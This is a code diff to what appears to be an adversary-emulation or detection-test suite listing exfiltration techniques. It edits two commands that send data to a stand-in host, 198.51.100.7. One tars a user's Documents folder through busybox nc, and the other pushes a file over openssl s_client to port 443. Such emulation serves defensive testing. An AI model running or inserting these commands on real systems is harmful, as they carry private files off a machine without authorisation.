@@ -81,7 +81,7 @@ export const exfiltration: readonly Action[] = [
     technique: 'T1048.003',
     needs: ['busybox'],
     before: server(8000),
-    run: 'tar -c /home/ann/Documents | busybox nc -w 1 198.51.100.7 8000',
+    run: 'tar -c /home/ann/Documents | timeout 2 busybox nc 198.51.100.7 8000',
     effect: received(secret),
   },
   {
@@ -102,7 +102,7 @@ export const exfiltration: readonly Action[] = [
 openssl req -x509 -newkey rsa:2048 -nodes -keyout k -out c -subj /CN=x -days 1 2>/dev/null
 openssl s_server -quiet -accept 443 -key k -cert c -naccept 1 >/run/got 2>/dev/null &
 sleep 0.3`,
-    run: `openssl s_client -quiet -no_ign_eof -connect 198.51.100.7:443 <${file} 2>/dev/null`,
+    run: `(cat ${file}; sleep 0.5) | timeout 3 openssl s_client -connect 198.51.100.7:443`,
     effect: received(secret),
   },
   {
